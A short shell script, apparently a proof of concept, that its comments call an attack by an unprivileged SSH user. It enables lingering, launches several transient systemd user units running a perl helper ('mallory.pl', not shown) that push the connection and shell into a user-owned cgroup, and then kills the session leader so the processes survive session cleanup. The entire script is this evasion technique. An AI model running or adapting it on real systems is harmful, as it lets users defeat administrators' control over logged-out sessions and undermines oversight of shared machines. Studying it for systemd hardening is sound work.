#!/bin/sh
# An attack of an unprivileged user in an SSH session: no scope can keep its processes. Programs of
# the user's manager, which the end of the session does not touch, continuously make PID 1 move the
# connection and the shell into a control group of the user.
set -eu
export XDG_RUNTIME_DIR="/run/user/$(id -u)"
shell=$PPID
connection=$(ps -o ppid= -p "$shell" | tr -d ' ')
manager="user@$(id -u).service"

# Keeps the user's manager running without a session.
loginctl enable-linger
mkdir -p "/sys/fs/cgroup/user.slice/user-$(id -u).slice/$manager/kept-out"
for mover in 1 2 3 4; do
	systemd-run --user --quiet --unit="mover-$mover-$shell" perl /var/tmp/mallory.pl \
		moves "$1" "$manager" /kept-out "$connection" "$shell"
done
until grep -q kept-out "/proc/$connection/cgroup"; do sleep 0.1; done
loginctl kill-session "$XDG_SESSION_ID" --kill-whom=leader --signal=KILL
echo "kept out by $shell."
